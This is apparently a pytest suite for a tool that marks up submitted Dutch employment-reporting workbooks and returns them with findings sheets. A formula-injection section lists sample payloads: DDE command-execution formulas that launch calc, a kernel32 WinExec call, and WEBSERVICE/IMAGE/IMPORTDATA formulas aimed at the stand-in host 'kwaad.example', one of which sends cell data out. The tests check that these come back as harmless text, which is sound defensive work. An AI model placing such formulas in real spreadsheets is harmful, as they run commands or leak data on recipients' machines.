"""The sender's own workbook back: what is coloured, explained and listed, and that nothing else in it changes."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlsxwriter  # type: ignore[import-untyped]  # has no stubs
import xlwt  # type: ignore[import-untyped]  # has no stubs
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.formula import ArrayFormula

from assets.returns.annotate import annotate
from assets.returns.findings_sheets import ALL_FINDINGS_SHEET, FINDINGS_SHEET
from assets.returns.workbook import CellKind, Sheet, open_workbook
from expectations.catalogue import rule
from expectations.validate import validate
from tests.returns.workbooks import (
    DEFENSIE,
    IPO,
    MBO,
    NFU,
    POLITIE,
    READER,
    book_of,
    first_sheet,
    ods,
    read,
    sample,
    saved,
    with_cells,
    with_member,
    zipped,
)
from warehouse.records import Finding, Outcome

OURS = [FINDINGS_SHEET, ALL_FINDINGS_SHEET]
RED, AMBER, BLUE = "FFFFC7CE", "FFFFE699", "FFDDEBF7"
ERROR, WARNING, INFO = "values_understood", "employers_returned", "values_exact"
UVW, STOPLICHT = "UvW banenafspraak 2024.xlsx", "IPO_stoplicht_2024H2.xlsx"
RIJK, SZW = "Rijk_banenafspraak_2024.xlsx", "SZW Landelijke monitor banenafspraak 2015-2024.xlsx"
NFU_XLS, WVOI_ODS = "NFU uitvraag banenafspraak umc 2023.xls", "WVOI opgave onderzoeksinstellingen 2023.ods"
SOFFICE = shutil.which("soffice")


def fails(
    rule_id: str, sheet: str | None, cell: str | None, message: str = "Dit klopt niet.", found: str | None = None
) -> Finding:
    """A failure of a rule at a place."""
    return Finding(rule_id, rule(rule_id).severity, Outcome.FAILS, sheet, cell, found, None, message)


def reopened(content: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(content))


def annotated(content: bytes, *findings: Finding) -> Any:
    return reopened(annotate(content, findings))


def table(book: Any, title: str) -> list[dict[str, Any]]:
    """The lines of a table of ours, by column: the cells."""
    rows = [list(row) for row in book[title].iter_rows()]
    top = next(number for number, row in enumerate(rows) if row[0].value == "Melding")
    return [{header.value: cell for header, cell in zip(rows[top], row, strict=True)} for row in rows[top + 1 :]]


def column(book: Any, title: str, name: str) -> list[Any]:
    return [line[name].value for line in table(book, title)]


def links(book: Any) -> list[str | None]:
    """Where the lines of the sheet with all findings lead to."""
    cells = [line["Cel"] for line in table(book, ALL_FINDINGS_SHEET)]
    return [cell.hyperlink.location if cell.hyperlink else None for cell in cells]


def head(book: Any) -> str:
    return " ".join(str(book[FINDINGS_SHEET][address].value or "") for address in ("A1", "A2", "A3"))


def fill(cell: Any) -> str | None:
    return cell.fill.fgColor.rgb if cell.fill.fill_type == "solid" else None


def own_cells(book: Any) -> dict[tuple[str, str], tuple[Any, str, str]]:
    """All that the sender's own sheets hold: values and formulas, their types and how they are shown."""
    return {
        (sheet.title, cell.coordinate): (getattr(cell.value, "text", cell.value), cell.data_type, cell.number_format)
        for sheet in book.worksheets
        if sheet.title not in OURS
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }


# -- a return with faults ----------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def faulty() -> tuple[list[Finding], Any]:
    """A return with an unknown header, a text where a number belongs and a negative number; and what goes back."""
    content = with_cells(MBO, {"H4": "Banen elders", "H5": 3, "D6": "veel", "D7": -5})
    (validation,) = validate([read(content)], READER.reference)
    return validation.failures, annotated(content, *validation.findings)


def test_every_finding_is_listed_and_the_faults_that_explain_others_come_first(
    faulty: tuple[list[Finding], Any],
) -> None:
    failures, book = faulty
    assert book.sheetnames == [*OURS, "mbo-scholen", "Toelichting"]
    rules = column(book, FINDINGS_SHEET, "Regel")
    assert rules[:4] == ["headers_known", "numbers_mapped", "values_understood", "not_negative"]
    assert len(rules) == len(set(rules)) == len({finding.rule for finding in failures})
    assert sum(column(book, FINDINGS_SHEET, "Aantal")) == len(failures) > len(rules)
    listed = zip(*(column(book, ALL_FINDINGS_SHEET, name) for name in ("Regel", "Cel", "Melding")), strict=True)
    assert sorted(listed) == sorted((finding.rule, finding.cell, finding.message) for finding in failures)


def test_every_failing_cell_is_coloured_and_says_what_is_wrong_and_what_to_do(
    faulty: tuple[list[Finding], Any],
) -> None:
    failures, book = faulty
    sheet = book["mbo-scholen"]
    coloured = {cell.coordinate for row in sheet.iter_rows() for cell in row if fill(cell) in {RED, AMBER, BLUE}}
    noted = {cell.coordinate for row in sheet.iter_rows() for cell in row if cell.comment}
    assert coloured == noted == {finding.cell for finding in failures}
    assert {address for address in coloured if fill(sheet[address]) == RED} == {"H4", "H5", "D6", "D7"}
    for finding in failures:
        note = sheet[finding.cell].comment.text
        assert finding.message in note
        assert f"Wat te doen: {rule(finding.rule).action}" in note


def test_the_summary_counts_and_says_that_it_is_rejected(faulty: tuple[list[Finding], Any]) -> None:
    failures, book = faulty
    counts = [sum(finding.severity == severity for finding in failures) for severity in ("error", "warning", "info")]
    told = "{} fouten, {} waarschuwingen en {} mededelingen".format(*counts)
    assert f"De opgave is afgewezen: {told}." in head(book)
    assert "stuur het opnieuw" in head(book)
    assert "oorspronkelijke bestand is niet gewijzigd" in head(book)


def test_the_sheets_in_front_can_be_read_and_printed(faulty: tuple[list[Finding], Any]) -> None:
    _, book = faulty
    for title, first_row in ((FINDINGS_SHEET, 6), (ALL_FINDINGS_SHEET, 2)):
        sheet = book[title]
        assert sheet.freeze_panes == f"A{first_row}"
        assert (sheet.page_setup.orientation, sheet.page_setup.fitToHeight) == ("landscape", 0)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        for line in table(book, title):
            assert all(cell.alignment.wrap_text for cell in line.values())
            widths = {name: sheet.column_dimensions[cell.column_letter].width for name, cell in line.items()}
            most_lines = max(len(str(cell.value or "")) / widths[name] for name, cell in line.items())
            assert sheet.row_dimensions[line["Melding"].row].height > 15 * most_lines, "no line is cut off"


def test_it_opens_at_the_findings_and_no_sheets_are_selected_together() -> None:
    book = book_of(IPO)
    book.active = 1
    book.worksheets[1].sheet_view.tabSelected = True
    book.views[0].firstSheet = 1
    back = annotated(saved(book))
    assert back.active.title == FINDINGS_SHEET
    assert back.views[0].firstSheet == 0
    assert not [sheet.title for sheet in back.worksheets if sheet.sheet_view.tabSelected]


# -- groups ------------------------------------------------------------------------------------------------------------


def test_the_same_message_for_many_cells_is_one_line_with_a_link_to_the_first() -> None:
    cells = [f"D{row}" for row in (30, 9, 10, 12, 14, 16, 18, 20)]
    book = annotated(sample(MBO), *(fails(ERROR, "mbo-scholen", cell, "Geen getal.") for cell in cells))
    (line,) = table(book, FINDINGS_SHEET)
    assert (line["Melding"].value, line["Aantal"].value) == ("Geen getal.", 8)
    assert (line["Plaats"].value, line["Plaats"].hyperlink.location) == ("mbo-scholen!D9", "'mbo-scholen'!D9")
    assert line["Andere plaatsen"].value == "mbo-scholen!D10, D12, D14, D16, D18 en 2 andere"


def test_different_messages_of_one_rule_are_one_line_with_their_number() -> None:
    two = [fails(ERROR, "mbo-scholen", cell, f"«{cell}» is geen getal.", cell) for cell in ("D10", "D9")]
    (line,) = table(annotated(sample(MBO), *two), FINDINGS_SHEET)
    assert line["Melding"].value == "Op 2 plaatsen; de eerste: «D9» is geen getal."
    assert line["Gevonden"].value == "D9, D10"


def test_errors_come_before_warnings_before_infos_whatever_their_order() -> None:
    rules = [INFO, "texts_known", "not_negative", WARNING, "values_counted", "sheets_known"]
    book = annotated(sample(MBO), *(fails(rule_id, "mbo-scholen", "D9") for rule_id in rules))
    in_order = ["sheets_known", "not_negative", "texts_known", WARNING, INFO, "values_counted"]
    assert column(book, FINDINGS_SHEET, "Regel") == column(book, ALL_FINDINGS_SHEET, "Regel") == in_order
    assert column(book, FINDINGS_SHEET, "Ernst") == [
        *["fout"] * 2, *["waarschuwing"] * 2, *["mededeling"] * 2,
    ]  # fmt: skip


def test_what_could_not_be_evaluated_is_no_finding() -> None:
    unsure = Finding(ERROR, rule(ERROR).severity, Outcome.NOT_EVALUABLE, "Opgave", "B9", None, None, "Onbekend.")
    book = annotated(sample(DEFENSIE), unsure)
    assert "Geen bevindingen" in head(book)
    assert "Geen bevindingen" in book[ALL_FINDINGS_SHEET]["A1"].value
    assert own_cells(book) == own_cells(reopened(sample(DEFENSIE)))
    assert book["Opgave"]["B9"].comment is None


def test_a_return_without_errors_is_not_called_rejected() -> None:
    book = annotated(sample(MBO), fails(WARNING, "mbo-scholen", "D37"))
    assert "niet afgewezen: geen fouten, 1 waarschuwing en geen mededelingen" in head(book)
    assert "licht de waarschuwingen dan toe" in head(book)


# -- colours and notes -------------------------------------------------------------------------------------------------


def test_the_gravest_finding_gives_the_colour_and_the_note_tells_all() -> None:
    findings = [fails(rule_id, "mbo-scholen", "D9", f"{rule_id}.") for rule_id in (INFO, ERROR, WARNING, INFO)]
    cell = annotated(sample(MBO), *findings)["mbo-scholen"]["D9"]
    assert fill(cell) == RED
    assert re.findall(r"^(Fout|Waarschuwing|Mededeling): (\w+)\.$", cell.comment.text, re.MULTILINE) == [
        ("Fout", ERROR),
        ("Waarschuwing", WARNING),
        ("Mededeling", INFO),
    ]


def test_white_text_on_a_dark_header_can_still_be_read() -> None:
    book = book_of(MBO)
    header = first_sheet(book)["D4"]
    header.fill, header.font = PatternFill("solid", fgColor="FF1F3864"), Font(color="FFFFFFFF", bold=True)
    cell = annotated(saved(book), fails(ERROR, "mbo-scholen", "D4"))["mbo-scholen"]["D4"]
    assert (fill(cell), cell.font.color.rgb, cell.font.bold) == (RED, "FF000000", True)


def test_a_colour_that_is_the_value_of_an_empty_cell_stays() -> None:
    content, sheet = sample(STOPLICHT), "Stoplicht 2024-H2"
    assert first_sheet(reopened(content))["E6"].value is None
    book = annotated(content, fails(ERROR, sheet, "E6"), fails(ERROR, sheet, "B6"))
    assert fill(book[sheet]["E6"]) == "FFFF0000"
    assert "Dit klopt niet." in book[sheet]["E6"].comment.text
    assert fill(book[sheet]["B6"]) == RED


def test_an_empty_cell_without_a_colour_is_coloured() -> None:
    content = with_cells(MBO, {"D9": None})
    assert fill(annotated(content, fails(WARNING, "mbo-scholen", "D9"))["mbo-scholen"]["D9"]) == AMBER


def test_a_note_at_merged_cells_stands_at_the_first() -> None:
    book = annotated(sample(IPO), fails(ERROR, "Provincies", "E4"))
    assert (fill(book["Provincies"]["C4"]), links(book)) == (RED, ["'Provincies'!C4"])
    assert "Dit klopt niet." in book["Provincies"]["C4"].comment.text
    assert "C4:E4" in {str(area) for area in book["Provincies"].merged_cells.ranges}


def test_the_senders_own_note_is_kept_and_ours_is_below_it() -> None:
    own = first_sheet(book_of(IPO))["B9"].comment
    assert own is not None
    note = annotated(sample(IPO), fails(ERROR, "Provincies", "B9"))["Provincies"]["B9"].comment
    assert note.text.startswith(f"{own.text}\n\n")
    assert note.text.index("Dit klopt niet.") > len(own.text)
    assert note.author == own.author


def test_a_note_is_as_large_as_its_text() -> None:
    content = annotate(
        sample(MBO), [fails(ERROR, "mbo-scholen", "D9", "kort"), fails(ERROR, "mbo-scholen", "D10", "lang " * 60)]
    )
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        (drawing,) = (archive.read(name).decode() for name in archive.namelist() if name.endswith(".vml"))
    heights = [int(height) for height in re.findall(r"height:(\d+)px", drawing)]
    assert len(heights) == 2
    assert heights[1] > heights[0] > 79, "larger than the standard size"


# -- the earlier copy, corrected and sent again ------------------------------------------------------------------------


def test_an_earlier_copy_loses_what_we_had_added() -> None:
    first = annotate(sample(IPO), [fails(ERROR, "Provincies", cell) for cell in ("B9", "D9")])
    second = annotated(first, fails(WARNING, "Provincies", "D9", "Nog steeds niet."))
    assert second.sheetnames == [*OURS, "Provincies", "Toelichting"]
    sheet, original = second["Provincies"], first_sheet(book_of(IPO))
    assert original["B9"].comment is not None
    assert sheet["B9"].comment.text == original["B9"].comment.text
    assert fill(sheet["B9"]) is None
    assert fill(sheet["D9"]) == AMBER
    assert "Nog steeds niet." in sheet["D9"].comment.text
    assert "Dit klopt niet." not in sheet["D9"].comment.text
    assert column(second, FINDINGS_SHEET, "Melding") == ["Nog steeds niet."]
    assert own_cells(second) == own_cells(book_of(IPO))


def test_a_colour_like_ours_with_a_note_of_the_sender_stays() -> None:
    book = book_of(IPO)
    first_sheet(book)["B9"].fill = PatternFill("solid", fgColor=RED)
    assert fill(annotated(saved(book))["Provincies"]["B9"]) == RED


# -- nothing of the sender's changes -----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [RIJK, UVW, SZW, STOPLICHT, NFU])
def test_values_and_formulas_stay_as_they_were(name: str) -> None:
    content = sample(name)
    before = reopened(content)
    everywhere = [fails(ERROR, sheet, cell) for sheet, cell in own_cells(before)]
    after = annotated(content, *everywhere)
    assert own_cells(after) == own_cells(before)
    for sheet in before.worksheets:
        kept = after[sheet.title]
        assert kept.sheet_state == sheet.sheet_state
        assert {str(area) for area in kept.merged_cells.ranges} == {str(area) for area in sheet.merged_cells.ranges}
        notes = [(cell.coordinate, cell.comment.text) for row in sheet.iter_rows() for cell in row if cell.comment]
        assert all(kept[address].comment.text.startswith(text) for address, text in notes)


@pytest.mark.parametrize("name", [NFU_XLS, WVOI_ODS])
def test_an_old_format_comes_back_as_xlsx_with_all_its_values(name: str) -> None:
    original = open_workbook(sample(name)).sheets
    place = original[0].filled_cells[0]
    content = annotate(sample(name), [fails(ERROR, original[0].name, place.address)])
    copied = open_workbook(content).sheets[2:]
    assert [values(sheet) for sheet in copied] == [values(sheet) for sheet in original]
    assert [(sheet.name, sheet.hidden, sheet.merged) for sheet in copied] == [
        (sheet.name, sheet.hidden, sheet.merged) for sheet in original
    ]
    book = reopened(content)
    assert "geen .xlsx" in head(book)
    assert fill(book[original[0].name][place.address]) == RED


def values(sheet: Sheet) -> dict[str, tuple[object, ...]]:
    """What a sheet's cells hold and show."""
    return {
        cell.address: (cell.kind, cell.value, cell.decimals or 0, cell.is_percentage) for cell in sheet.filled_cells
    }


def xls_with_something_of_everything() -> bytes:
    book = xlwt.Workbook()
    sheet = book.add_sheet("Alles")
    sheet.write(0, 0, 12.5)
    sheet.write(0, 1, 0.609, xlwt.easyxf(num_format_str="0.0%"))
    sheet.write(0, 2, 45657, xlwt.easyxf(num_format_str="yyyy-mm-dd"))
    sheet.write(0, 3, value := True)
    sheet.row(0).set_cell_error(4, "#DIV/0!")
    sheet.write(0, 5, "=1+1 is tekst")
    sheet.write_merge(1, 2, 0, 1, "samengevoegd")
    sheet.write(3, 0, "", xlwt.easyxf("pattern: pattern solid, fore_colour red"))
    sheet.row(4).hidden = sheet.col(6).hidden = value
    book.add_sheet("Verborgen").visibility = 1
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def test_a_rebuilt_workbook_keeps_types_merges_colours_and_what_is_hidden() -> None:
    content = xls_with_something_of_everything()
    assert open_workbook(annotate(content, [])).sheets[2:] == open_workbook(content).sheets


def workbook_of_type(content_type: str) -> bytes:
    """A workbook with macros, or a template, as its content type says."""
    plain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    content = with_member(sample(DEFENSIE), "[Content_Types].xml", lambda xml: xml.replace(plain, content_type))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        files = {name: archive.read(name).decode() for name in archive.namelist()}
    return zipped({**files, "xl/vbaProject.bin": "Sub Auto_Open()"})


@pytest.mark.parametrize(
    ("day", "kind"),
    [("2024-12-31", CellKind.DATE), ("2024-13-45", CellKind.TEXT), ("1850-01-01", CellKind.TEXT)],
)
def test_a_date_that_excel_cannot_hold_comes_back_as_text(day: str, kind: CellKind) -> None:
    cell = f'<table:table-cell office:value-type="date" office:date-value="{day}"/>'
    back = open_workbook(annotate(ods(f"<table:table-row>{cell}</table:table-row>"), [])).sheets[2].cell(1, 1)
    assert (back.literal, back.kind) == (day, kind)


@pytest.mark.parametrize(
    "content_type",
    [
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml",
    ],
    ids=["macros", "template"],
)
def test_what_goes_back_is_a_plain_workbook_without_macros(content_type: str) -> None:
    with zipfile.ZipFile(io.BytesIO(annotate(workbook_of_type(content_type), []))) as archive:
        assert not [name for name in archive.namelist() if "vba" in name.lower()]
        assert b"spreadsheetml.sheet.main+xml" in archive.read("[Content_Types].xml")


# -- what a sender wrote is text ---------------------------------------------------------------------------------------

INJECTIONS = [
    '=HYPERLINK("http://kwaad.example")',
    "=cmd|' /C calc'!A0",
    "+31 6",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "#N/A",
]


def _with_formula(formula: str) -> bytes:
    """In a cell, in a formula for several cells, and as a name that stands for it."""
    book = book_of(POLITIE)
    sheet = first_sheet(book)
    sheet["C12"], sheet["D12"] = formula, ArrayFormula("D12:D12", formula)
    book.defined_names["naam"] = DefinedName("naam", attr_text=formula.removeprefix("="))
    return saved(book)


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|'/c calc'!A0",
        '=1+MSEXCEL|"..\\cmd.exe /c calc"!A0',
        '=_xlfn.WEBSERVICE("http://kwaad.example/"&C5)',
        '=_xlfn.IMAGE("http://kwaad.example/x.png")',
        '=IF(1,call ("kernel32","WinExec","JJ","calc",0))',
        '=RTD("kwaad",,"x")',
        '=IMPORTDATA("http://kwaad.example")',
    ],
)
def test_a_formula_that_calls_something_outside_comes_back_as_text(formula: str) -> None:
    """Excel calculates the copy when it is opened; the sender is told."""
    back = reopened(annotate(_with_formula(formula), []))
    sheet = back.worksheets[2]
    for cell in (sheet["C12"], sheet["D12"]):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (formula, "s", True)
    assert "naam" not in back.defined_names
    assert "in deze kopie tekst" in str(back.worksheets[0]["A3"].value)


@pytest.mark.parametrize("formula", ['=IF(C11="a|b","x|y","")', "='a|b'!C11+SUM(C7:C9)", "=RECALL(1)", "=mijn.call(1)"])
def test_a_formula_that_calls_nothing_stays(formula: str) -> None:
    back = reopened(annotate(_with_formula(formula), []))
    assert (back.worksheets[2]["C12"].value, back.worksheets[2]["D12"].value.text) == (formula, formula)
    assert "naam" in back.defined_names
    assert "in deze kopie tekst" not in str(back.worksheets[0]["A3"].value)


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_text_that_looks_like_a_formula_stays_text(text: str) -> None:
    sheet_name = f"blad {text}"
    book = annotated(sample(MBO), fails(ERROR, sheet_name, text, text, text), fails(INFO, "mbo-scholen", "D9", text))
    written = [cell for title in OURS for row in book[title].iter_rows() for cell in row if cell.value is not None]
    looking = [cell for cell in written if str(cell.value).strip() == text.strip()]
    assert len(looking) == 7, "message, place and found value, in both sheets"
    assert {cell.data_type for cell in written} == {"s", "n"}
    if text != "#N/A":
        assert all(cell.quotePrefix for cell in looking)


def header_that_is_a_formula_as_text() -> bytes:
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream) as book:
        book.add_worksheet("Blad").write_string("A1", INJECTIONS[0])
    return stream.getvalue()


def xls_with_a_header_that_is_a_formula_as_text() -> bytes:
    book = xlwt.Workbook()
    book.add_sheet("Blad").write(0, 0, INJECTIONS[0])
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


@pytest.mark.parametrize(
    "content", [header_that_is_a_formula_as_text(), xls_with_a_header_that_is_a_formula_as_text()], ids=["xlsx", "xls"]
)
def test_a_header_that_looks_like_a_formula_stays_text(content: bytes) -> None:
    back = annotate(content, [fails(ERROR, "Blad", "A1", f"De kop «{INJECTIONS[0]}» is onbekend.", INJECTIONS[0])])
    with zipfile.ZipFile(io.BytesIO(back)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 3
    assert not any("<f>" in xml or "<f " in xml for xml in sheets)
    assert all("HYPERLINK(" in xml for xml in sheets)


def test_what_a_spreadsheet_cannot_hold_is_left_out() -> None:
    text = "\x00=a\x00b\x0b\ud800\ufffe" + "😀" * 40_000
    book = annotated(sample(MBO), fails(ERROR, "mbo-scholen", "D9", text, text))
    (line,) = table(book, ALL_FINDINGS_SHEET)
    assert (line["Gevonden"].data_type, line["Gevonden"].quotePrefix) == ("s", True)
    for told in (line["Melding"].value, line["Gevonden"].value):
        assert told.startswith("=ab😀")
        assert len(told.encode("utf-16-le")) / 2 in (32_766, 32_767)
    assert "ab😀" in book["mbo-scholen"]["D9"].comment.text
    assert "Wat te doen:" in book["mbo-scholen"]["D9"].comment.text


# -- places and files that are not as they should be -------------------------------------------------------------------


def workbook_with_a_chartsheet_and_a_locked_sheet() -> bytes:
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream) as book:
        sheet = book.add_worksheet("Cijfer's")
        sheet.write("A1", 1)
        sheet.protect("geheim")
        chart = book.add_chart({"type": "pie"})
        chart.add_series({"values": "='Cijfer''s'!$A$1"})
        book.add_chartsheet("Grafiek").set_chart(chart)
    return stream.getvalue()


def test_a_place_that_is_not_in_the_workbook_has_no_link() -> None:
    nowhere: list[tuple[str | None, str | None]] = [
        (None, None), ("Cijfer's", None), ("Weg", "A1"), ("Grafiek", "A1"), ("Cijfer's", "XFD1048576"),
        ("Cijfer's", "ZZZZ99999999"), ("Cijfer's", "XFD1"), ("Cijfer's", "A0"),
        ("Cijfer's", "A1:B2"), ("Cijfer's", "hier"),
    ]  # fmt: skip
    content = workbook_with_a_chartsheet_and_a_locked_sheet()
    book = annotated(content, *(fails(ERROR, *place) for place in [*nowhere, ("Cijfer's", "A1")]))
    assert book.sheetnames == [*OURS, "Cijfer's", "Grafiek"]
    told = zip(
        column(book, ALL_FINDINGS_SHEET, "Blad"), column(book, ALL_FINDINGS_SHEET, "Cel"), links(book), strict=True
    )
    assert sorted(map(str, told)) == sorted(
        map(str, [*((*place, None) for place in nowhere), ("Cijfer's", "A1", "'Cijfer''s'!A1")])
    )
    assert table(book, FINDINGS_SHEET)[0]["Plaats"].value == "het hele bestand"
    assert book["Cijfer's"].protection.sheet
    assert own_cells(book) == own_cells(reopened(content))


def test_links_lead_to_sheets_whose_names_have_spaces_and_apostrophes() -> None:
    assert links(annotated(sample(NFU), fails(INFO, "umc's 2024", "G8"))) == ["'umc''s 2024'!G8"]


@pytest.mark.parametrize(
    "content", [b"", b"Naam;Banen\n", b"%PDF-1.7\n", sample(MBO)[:3000], zipped({"brief.txt": "Geachte"})]
)
def test_of_a_file_that_cannot_be_read_only_our_sheets_go_back(content: bytes) -> None:
    (unreadable,) = read(content).places
    book = annotated(content, fails("file_readable", None, None, str(unreadable.found), unreadable.found))
    assert book.sheetnames == OURS
    assert "niet te lezen" in head(book)
    assert column(book, FINDINGS_SHEET, "Melding") == [unreadable.found]


def test_a_workbook_that_says_nothing_of_its_calculation_comes_back_too() -> None:
    content = with_member(sample(UVW), "xl/workbook.xml", lambda xml: re.sub(r"<calcPr[^>]*/>", "", xml))
    assert annotated(content).calculation.fullCalcOnLoad


@pytest.mark.parametrize(
    ("member", "right", "wrong"),
    [("xl/worksheets/sheet1.xml", 'left="0.75"', 'left="breed"'), ("docProps/core.xml", "</cp:coreProperties>", "")],
)
def test_a_part_that_openpyxl_cannot_read_keeps_no_values_from_the_sender(member: str, right: str, wrong: str) -> None:
    content = with_member(sample(DEFENSIE), member, lambda xml: xml.replace(right, wrong))
    own, *_ = open_workbook(content).sheets
    copied = open_workbook(annotate(content, [])).sheets[2]
    assert [(cell.address, cell.value) for cell in copied.filled_cells] == [
        (cell.address, cell.value) for cell in own.filled_cells
    ]


# -- as other programs see it ------------------------------------------------------------------------------------------


@pytest.mark.libreoffice
@pytest.mark.skipif(SOFFICE is None, reason="soffice is not on the PATH: apt-get install libreoffice-calc")
def test_libreoffice_opens_calculates_and_prints_it(tmp_path: Path) -> None:
    findings = [fails(ERROR, "Waterschappen 2024", "G7", "Dit totaal klopt niet.", "=SUM(D7:F7)")]
    (tmp_path / "retour.xlsx").write_bytes(annotate(sample(UVW), findings))
    converted(tmp_path, ["pdf", "xlsx"])
    assert (tmp_path / "uit" / "retour.pdf").read_bytes().startswith(b"%PDF")
    again = openpyxl.load_workbook(tmp_path / "uit" / "retour.xlsx", data_only=True)
    assert column(again, FINDINGS_SHEET, "Melding") == ["Dit totaal klopt niet."]
    assert column(again, FINDINGS_SHEET, "Gevonden") == ["=SUM(D7:F7)"]
    assert "G7" in table(again, FINDINGS_SHEET)[0]["Plaats"].hyperlink.location
    assert "Dit totaal klopt niet." in again["Waterschappen 2024"]["G7"].comment.text
    stored = openpyxl.load_workbook(io.BytesIO(sample(UVW)), data_only=True)["Waterschappen 2024"]
    formulas = [cell for (_, cell), (_, kind, _) in own_cells(reopened(sample(UVW))).items() if kind == "f"]
    assert len(formulas) == 62
    for address in formulas:
        assert again["Waterschappen 2024"][address].value == pytest.approx(stored[address].value)


def converted(folder: Path, formats: Sequence[str]) -> None:
    """Have LibreOffice convert `retour.xlsx`, with a profile of its own so that tests can run side by side."""
    for name in formats:
        command = [
            str(SOFFICE), "--headless", f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--convert-to", name,
            "--outdir", str(folder / "uit"), str(folder / "retour.xlsx"),
        ]  # fmt: skip
        subprocess.run(command, capture_output=True, timeout=120, check=True)
